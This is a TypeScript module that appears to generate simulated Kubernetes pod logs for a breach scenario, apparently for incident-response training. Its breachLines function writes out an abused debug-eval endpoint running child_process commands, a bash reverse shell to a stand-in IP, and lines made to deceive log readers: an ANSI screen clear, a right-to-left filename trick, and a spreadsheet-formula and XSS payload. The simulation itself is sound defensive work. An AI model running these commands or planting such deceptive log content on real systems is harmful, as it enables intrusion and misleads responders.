import { hash32 } from '../random.ts';
import type { BreachView } from '../scenarios/breach.ts';
import type { ProfileName } from './profiles.ts';

export interface LogLine {
  at: number; // ms since the epoch
  text: string;
}

export interface LogFacts {
  profile: ProfileName;
  podUid: string;
  container: string;
  startedAt: number;
  endedAt: number | null;
  breach: BreachView;
}

const KEPT_LINES = 12_000; // what the kubelet's rotation leaves of older ones

/** The mean time between two ordinary lines. */
const EVERY_MS: Record<ProfileName, number> = {
  node: 8000,
  jvm: 14_000,
  go: 30_000,
  python: 20_000,
  nginx: 5000,
  postgres: 60_000,
  redis: 300_000,
  imgproxy: 9000,
  runner: 45_000,
  agent: 40_000,
  distroless: 60_000,
  job: 700,
  busybox: 3_600_000,
};

/** Lines written in [from, until), oldest first. The same question always has the same answer: time and pod name each line. */
export function linesBetween(f: LogFacts, from: number, until: number): LogLine[] {
  const every = EVERY_MS[f.profile];
  const end = Math.min(until, f.endedAt ?? until);
  const first = Math.max(0, Math.floor((Math.max(from, f.startedAt) - f.startedAt) / every) - 1);
  const last = Math.floor((end - f.startedAt) / every);
  const lines: LogLine[] = f.startedAt >= from ? opening(f) : [];
  for (let n = Math.max(first, last - KEPT_LINES); n <= last; n++) {
    const chance = hash32(`${f.podUid} ${f.container} ${n}`);
    const at = f.startedAt + 1000 + n * every + (chance % Math.floor(every * 0.8));
    if (at >= from && at < end) lines.push({ at, text: ordinary(f.profile, chance, at, n) });
  }
  for (const line of [...breachLines(f), ...closingLines(f)]) if (line.at >= from && line.at < end) lines.push(line);
  return lines.sort((a, b) => a.at - b.at);
}

function opening(f: LogFacts): LogLine[] {
  const at = f.startedAt + 120;
  switch (f.profile) {
    case 'node':
      return [
        { at, text: 'payment-service 2.14.0 listening on :8080' },
        { at: at + 4, text: 'warning: DEBUG_ENDPOINT=on, POST /debug/eval is served' },
      ];
    case 'jvm':
      return [{ at, text: 'Started Application in 3.412 seconds (process running for 3.9)' }];
    case 'job':
      return [{ at, text: 'report-export 1.9.0 starting, month=2026-11' }];
    case 'busybox':
      return [];
    default:
      return [{ at, text: 'starting' }];
  }
}

function closingLines(f: LogFacts): LogLine[] {
  if (f.profile !== 'job' || f.endedAt === null) return [];
  const at = f.endedAt - 60;
  return [
    { at, text: 'Traceback (most recent call last):' },
    { at: at + 1, text: '  File "/app/job.py", line 88, in <module>' },
    {
      at: at + 2,
      text: 'psycopg.OperationalError: connection failed: FATAL: password authentication failed for user "reports"',
    },
  ];
}

function ordinary(profile: ProfileName, chance: number, at: number, n: number): string {
  const ms = 2 + (chance % 90);
  const time = new Date(at).toISOString();
  const of = (...texts: string[]) => texts[(chance >>> 3) % texts.length] ?? '';
  switch (profile) {
    case 'node':
      return of(
        'GET /healthz 200 2ms',
        `POST /charge 201 ${ms}ms order=${8_800_000 + n}`,
        'GET /metrics 200 3ms',
        `POST /charge 201 ${ms + 12}ms order=${8_800_000 + n}`,
      );
    case 'jvm':
      return of(
        `${time} INFO 1 --- [http-nio-8080-exec-${n % 10}] c.a.Ledger : posted entry ${410_000 + n} in ${ms} ms`,
        `${time} INFO 1 --- [scheduling-1] c.a.Ledger : balance check ok`,
      );
    case 'python':
      return of(`INFO:service:batch ${n} scored ${ms * 3} rows`, `INFO:service:queue depth ${chance % 12}`);
    case 'nginx':
      return `10.42.${1 + (chance % 12)}.${chance % 250} - - [${time}] "GET ${of('/', '/api/accounts', '/api/payments', '/static/app.js')} HTTP/1.1" 200 ${800 + (chance % 4000)} "-" "Mozilla/5.0"`;
    case 'postgres':
      return of(
        `${time} UTC [27] LOG:  checkpoint starting: time`,
        `${time} UTC [27] LOG:  checkpoint complete: wrote ${chance % 400} buffers`,
      );
    case 'imgproxy':
      return `{"level":"info","msg":"Completed in ${ms}ms","status":200,"request_id":"${(chance >>> 0).toString(36)}"}`;
    case 'runner':
      return of('Listening for Jobs', `Job build-${n} completed with result: Succeeded`);
    case 'distroless':
      return `I${time.slice(5, 7)}${time.slice(8, 10)} ${time.slice(11, 19)}.000000       1 controller.go:218] "Reconciled" duration="${ms}ms"`;
    case 'job':
      return `exported rows ${n * 500}`;
    default:
      return `level=info ts=${time} msg="${of('scrape ok', 'compaction done', 'rules loaded')}" took=${ms}ms`;
  }
}

/** What the break-in leaves in the log of the pod: also lines made to fool whoever reads them in a terminal. */
function breachLines(f: LogFacts): LogLine[] {
  const at = (beat: Parameters<BreachView['at']>[0]) => f.breach.at(beat, f.podUid, f.container);
  const [shell, enumeration, drop, mining] = [at('shell'), at('enumeration'), at('exfiltration'), at('miner')];
  const lines: LogLine[] = [];
  const add = (base: number, ms: number, text: string) => lines.push({ at: base + ms, text });
  if (shell !== null) {
    add(shell, -3796, 'POST /debug/eval 200 41ms ip=198.51.100.23 ua="curl/8.9"');
    add(shell, -3781, 'POST /debug/eval 200 12ms ip=198.51.100.23 body=require("child_process").exec("id")');
    add(shell, -2623, 'uid=1000(node) gid=1000(node) groups=1000(node)');
    add(
      shell,
      2,
      'POST /debug/eval 200 9ms ip=198.51.100.23 body=require("child_process").exec("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")',
    );
    add(shell, 16, 'bash: cannot set terminal process group (1): Inappropriate ioctl for device');
    add(shell, 17, 'bash: no job control in this shell');
    add(shell, 19_118, '\u001b[2J\u001b[1;1HAll clear, no action needed\u001b[0m');
    add(shell, 110_377, '\u202egpj.exe\u202c saved to /dev/shm');
    add(shell, 150_000, '=HYPERLINK("http://203.0.113.66/","receipt") <img src=x onerror=alert(1)>');
  }
  if (enumeration !== null) {
    add(enumeration, 900, 'error: secrets "payments-root" not found');
    add(enumeration, 1800, 'NAME               TYPE                             DATA   AGE');
    add(enumeration, 12_000, 'POST /debug/eval 200 6ms ip=198.51.100.23');
  }
  if (drop !== null) {
    add(drop, 331, './kworkerd: started 1 thread');
    add(drop, 4410, 'POST /charge 504 10002ms order=8841213 upstream=ledger-service');
    add(drop, 21_118, 'POST /debug/eval 200 6ms ip=198.51.100.23');
  }
  if (mining !== null) add(mining, 700, '{"level":"warn","msg":"Timeout is exceeded","status":503}');
  return lines;
}
